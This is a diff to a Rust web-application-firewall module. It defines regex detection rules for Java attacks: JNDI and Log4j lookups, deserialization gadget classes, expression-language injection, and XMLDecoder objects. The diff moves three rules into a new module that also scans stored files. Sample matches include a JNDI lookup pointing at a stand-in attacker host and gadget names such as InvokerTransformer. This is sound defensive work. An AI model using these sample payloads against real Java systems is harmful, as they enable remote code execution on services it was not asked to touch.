@@ -5,9 +5,6 @@ use crate::waf::view::Places;
 
 patterns! {
     class Java, tags &["java"], places Places::VALUES;
-    LOOKUP: "java-jndi", STRONG, "a lookup by JNDI",
-        literals ["jndi", "ndi:"], r"(?:\$\{?\s*jndi\s*:|\{\s*jndi\s*:|\bjndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?):|\bndi:(?:ldaps?|rmi|dns):)",
-        ["${jndi:ldap://evil.example/a}"], ["the jndi tutorial"];
     NESTED_LOOKUP: "java-lookup", STRONG, "a lookup that a logger resolves",
         literals ["${"],
         r"\$\{\s*(?:\$\{|(?:env|sys|lower|upper|date|main|ctx|base64|java|bundle|sd|map|log4j|k8s|docker|web|spring|script|dns|url|const|xml):|[^}\s]{0,60}:-)",
@@ -21,10 +18,6 @@ patterns! {
         literals ["transformer", "forclosure", "whileclosure", "instantiatefactory", "prototypeclonefactory", "prototypeserializationfactory", "templatesimpl", "beancomparator", "badattributevalue", "jdbcrowset", "xmldecoder", "ysoserial", "annotationinvocationhandler"],
         r"(?:(?:clone|instantiate|invoker|chained|constant)transformer|(?:for|while|transformer)closure|instantiatefactory|prototypeclonefactory|prototypeserializationfactory|templatesimpl\b|beancomparator|badattributevalueexpexception|jdbcrowsetimpl|xmldecoder\b|ysoserial|annotationinvocationhandler)",
         ["InvokerTransformer", "runtime.forclosure"], ["disclosure", "closure of the road"];
-    SERIALIZED: "java-serialized", STRONG, "a serialized object of Java",
-        literals ["rO0AB", "KztAAU", "Cs7QAF", "H4sIAAAAAAAA"], r"(?:^|[^a-z0-9+/])(?-i:rO0AB[A-Za-z]|KztAAU|Cs7QAF)", ["rO0ABXNyABFq"], ["pro0abc"];
-    STREAM: "java-stream", STRONG, "the head of a stream of Java objects",
-        literals ["\u{0}\u{5}"], r"\xac\xed\x00\x05", [], [];
     EXPRESSION: "java-expression", STRONG, "an expression language that calls methods",
         literals ["memberaccess", "#context", "@java", "@org.apache", "t(java", "t(org.", "t (java", "t (org.", "(#", "( #", "getruntime", "#application", "#parameters", "redirect:", "redirectaction:", "redirect-action:", "action:", "staticmethod", "getclass", "#response", "#request", "#session", "class.forname", "getdeclared", "#{", "%{", "${"],
         r"(?:#_?memberaccess|allowstaticmethodaccess|#context\s*[\[.=]|\(\s*#\w+\s*=|@java\.|@org\.apache|\bt\s*\(\s*(?:java|org|javax)\.|\bgetruntime\s*\((?:\s*\)\s*(?:[^;\s]|$)|\s*[^)\s]|\s*$)|#(?:application|parameters|response|request|session)\s*[\[.]|\b(?:redirect(?:-?action)?|action):\s*[$%#]\{|\bgetclass\s*\(\s*\)\s*\.|\bclass\.forname\s*\(|\bgetdeclared(?:method|constructor|field)s?\s*\(|[$#%]\{[^}\r\n]{0,120}(?:\.exec\s*\(|\.getclass|\.class\.|applicationscope|\bfacescontext|pagecontext|@\w+@|new\s+\w+))",
@@ -33,4 +26,21 @@ patterns! {
         literals ["class.module", "class.classloader", "class.protection", "class["], r"\bclass(?:\.|\[['\x22]?)(?:module|classloader|protectiondomain)\b", ["class.module.classLoader.x"], ["class module"];
     DECODER: "java-xml-decoder", STRONG, "objects of Java in XML",
         literals ["<java", "<object", "<void"], r"<(?:java|object|void)\b[^>]{0,120}\bclass\s*=\s*['\x22]java", ["<java class=\"java.beans.XMLDecoder\">"], [];
+}
+
+/// What strikes those who only store a file, or log of it.
+pub(super) mod anywhere {
+    use crate::waf::detect::macros::patterns;
+    use crate::waf::view::{Place, Places};
+
+    patterns! {
+        class Java, tags &["java"], places Places::VALUES.and(&[Place::File]);
+        LOOKUP: "java-jndi", STRONG, "a lookup by JNDI",
+            literals ["jndi", "ndi:"], r"(?:\$\{?\s*jndi\s*:|\{\s*jndi\s*:|\bjndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?):|\bndi:(?:ldaps?|rmi|dns):)",
+            ["${jndi:ldap://evil.example/a}"], ["the jndi tutorial"];
+        SERIALIZED: "java-serialized", STRONG, "a serialized object of Java",
+            literals ["rO0AB", "KztAAU", "Cs7QAF", "H4sIAAAAAAAA"], r"(?:^|[^a-z0-9+/])(?-i:rO0AB[A-Za-z]|KztAAU|Cs7QAF)", ["rO0ABXNyABFq"], ["pro0abc"];
+        STREAM: "java-stream", STRONG, "the head of a stream of Java objects",
+            literals ["\u{0}\u{5}"], r"\xac\xed\x00\x05", [], [];
+    }
 }
